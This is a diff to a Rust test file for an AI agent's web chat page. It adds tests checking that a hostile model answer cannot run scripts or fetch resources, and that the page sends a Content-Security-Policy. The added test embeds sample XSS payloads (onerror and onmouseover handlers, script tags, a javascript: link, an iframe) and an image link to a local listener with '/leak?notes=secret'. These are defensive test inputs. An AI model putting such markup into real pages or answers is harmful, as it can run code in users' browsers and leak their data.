@@ -5,6 +5,8 @@ use crate::sandbox;
 use agentry_tests::mock_model::{MockModelServer, MockReply, MockTurn};
 use agentry_tests::peers::run_page_client;
 use serde_json::json;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::Duration;
 
 #[test]
@@ -37,10 +39,10 @@ fn the_web_page_streams_answers_asks_questions_asks_permission_and_shows_diffs()
         .unwrap_or_else(|| sb.project().parent().unwrap().join("page.png"));
     let steps = json!([
         {"op": "click", "selector": "#new-session"},
-        {"op": "wait_text", "selector": "#status", "text": "Session"},
+        {"op": "wait_text", "selector": "#state", "text": "Ready"},
         {"op": "fill", "selector": "#message", "text": "Say hi"},
         {"op": "press", "selector": "#message", "key": "Enter"},
-        {"op": "wait_text", "selector": ".turn.assistant .text", "text": "Hello from the agent."},
+        {"op": "wait_text", "selector": ".turn.assistant .answer", "text": "Hello from the agent."},
         {"op": "fill", "selector": "#message", "text": "Deploy and edit the notes"},
         // The answer's text shows before its turn has ended; the Send button is enabled again
         // only then, and a click waits for that (Enter while the turn runs sends nothing).
@@ -52,7 +54,7 @@ fn the_web_page_streams_answers_asks_questions_asks_permission_and_shows_diffs()
         {"op": "click", "selector": ".permission button:first-of-type"},
         {"op": "wait_text", "selector": ".diff .del", "text": "alpha"},
         {"op": "text", "selector": ".diff .add"},
-        {"op": "wait_text", "selector": ".turn.assistant .text", "text": "Edited for staging."},
+        {"op": "wait_text", "selector": ".turn.assistant .answer", "text": "Edited for staging."},
         {"op": "text", "selector": ".turn.user .bubble >> nth=2"},
         {"op": "screenshot", "path": shot},
     ]);
@@ -76,4 +78,128 @@ fn the_web_page_streams_answers_asks_questions_asks_permission_and_shows_diffs()
     assert!(texts[1].contains("Answered 1: option 1"), "{texts:?}");
     assert_eq!(std::fs::read_to_string(&notes).unwrap(), "beta\nkept\n");
     assert!(shot.exists());
+    // Every file the page loaded (its icon and stylesheets included) came with its cookie.
+    let network = out.of_kind("network");
+    assert_eq!(network[0]["failures"], json!([]), "{network:#?}");
+    let requests = network[0]["requests"].to_string();
+    assert!(
+        requests.contains("/favicon.svg") && requests.contains("/highlight.css"),
+        "{requests}"
+    );
+}
+
+/// A loopback listener that counts the connections made to it, in a thread of its own.
+fn counting_listener() -> (u16, Arc<AtomicUsize>) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let count = Arc::new(AtomicUsize::new(0));
+    let counted = count.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            counted.fetch_add(1, Ordering::SeqCst);
+            drop(stream);
+        }
+    });
+    (port, count)
+}
+
+#[test]
+fn answers_are_rendered_markdown_and_a_hostile_answer_runs_and_fetches_nothing() {
+    let sb = sandbox();
+    let (port, connections) = counting_listener();
+    let elsewhere = format!("http://127.0.0.1:{port}");
+    let answer = format!(
+        "## Done\n\nVisible text <img src=\"{elsewhere}/img\" onerror=\"window.__pwned = 1\"> \
+         <script>window.__pwned = 2</script>\n\n\
+         [click me](javascript:window.__pwned=3) <iframe src=\"{elsewhere}/frame\"></iframe>\n\n\
+         ![the notes]({elsewhere}/leak?notes=secret) <a href=\"#\" onmouseover=\"window.__pwned = 4\">hover</a>\n\n\
+         <svg><script>window.__pwned = 5</script></svg><style>body {{ display: none }}</style>\n\n\
+         | tool | calls |\n|---|---|\n| Read | 2 |\n\n```rust\nfn main() {{ println!(\"hi\"); }}\n```\n"
+    );
+    let model = MockModelServer::start_blocking([MockTurn::Reply(MockReply::text(&answer))]);
+    let server = Server::start(&sb, &model, &[]);
+    let steps = json!([
+        {"op": "click", "selector": "#new-session"},
+        {"op": "fill", "selector": "#message", "text": "Summarise the page you read"},
+        {"op": "press", "selector": "#message", "key": "Enter"},
+        {"op": "wait_text", "selector": ".turn.assistant .answer h2", "text": "Done"},
+        {"op": "wait_text", "selector": ".turn.assistant .answer td", "text": "Read"},
+        {"op": "eval", "script": "String(window.__pwned)"},
+        {"op": "eval", "script": "document.querySelectorAll('#conversation :is(script, iframe, img, style, [onerror], [onmouseover], [style])').length"},
+        {"op": "eval", "script": "[...document.querySelectorAll('#conversation a')].map((a) => a.getAttribute('href') ?? '').join(' ')"},
+        {"op": "eval", "script": "document.querySelectorAll('.turn.assistant pre.hl-code .hl-rust').length > 0"},
+        {"op": "eval", "script": "getComputedStyle(document.querySelector('.turn.assistant pre.hl-code .hl-string')).color !== getComputedStyle(document.querySelector('.turn.assistant .answer')).color"},
+        {"op": "text", "selector": ".turn.assistant .answer"},
+        {"op": "eval", "script": "getComputedStyle(document.body).display"},
+    ]);
+    let out = run_page_client(
+        &json!({"url": server.page_link(), "steps": steps}),
+        sb.project().parent().unwrap(),
+        Duration::from_secs(90),
+    );
+    assert!(
+        out.of_kind("failed").is_empty(),
+        "{:#?}\n{}",
+        out.records,
+        out.stderr
+    );
+    let texts: Vec<&str> = out
+        .of_kind("step")
+        .iter()
+        .filter_map(|s| s["text"].as_str())
+        .collect();
+    assert_eq!(texts[0], "undefined", "a script ran");
+    assert_eq!(texts[1], "0", "markup that runs or fetches survived");
+    assert!(!texts[2].contains("javascript:"), "{texts:?}");
+    assert!(
+        texts[2].contains(&format!("{elsewhere}/leak?notes=secret")),
+        "the image is a link: {texts:?}"
+    );
+    assert_eq!(texts[3], "true", "the code is not highlighted");
+    assert_eq!(
+        texts[4], "true",
+        "highlighted code has no colours of its own"
+    );
+    assert!(
+        texts[5].contains("Visible text") && texts[5].contains("the notes"),
+        "{texts:?}"
+    );
+    assert_eq!(texts[6], "flex", "a style from the answer applied");
+    assert_eq!(
+        connections.load(Ordering::SeqCst),
+        0,
+        "the page reached another site"
+    );
+    let network = out.of_kind("network");
+    assert!(
+        !network[0]["requests"].to_string().contains(&elsewhere),
+        "{network:#?}"
+    );
+}
+
+#[test]
+fn the_page_is_served_with_a_content_security_policy() {
+    let sb = sandbox();
+    let model = MockModelServer::start_blocking([]);
+    let server = Server::start(&sb, &model, &[]);
+    for path in [
+        "/",
+        "/app.js",
+        "/style.css",
+        "/highlight.css",
+        "/favicon.svg",
+    ] {
+        let (status, headers) = agentry_tests::http::head_of(&format!("{}{path}", server.url));
+        assert_eq!(status, 200, "{path}");
+        let header = |name: &str| {
+            headers
+                .get(name)
+                .and_then(|v| v.to_str().ok())
+                .unwrap_or_default()
+        };
+        let policy = header("content-security-policy");
+        assert!(policy.contains("script-src 'self'"), "{path}: {policy}");
+        assert!(!policy.contains("unsafe-inline"), "{path}: {policy}");
+        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
+    }
 }
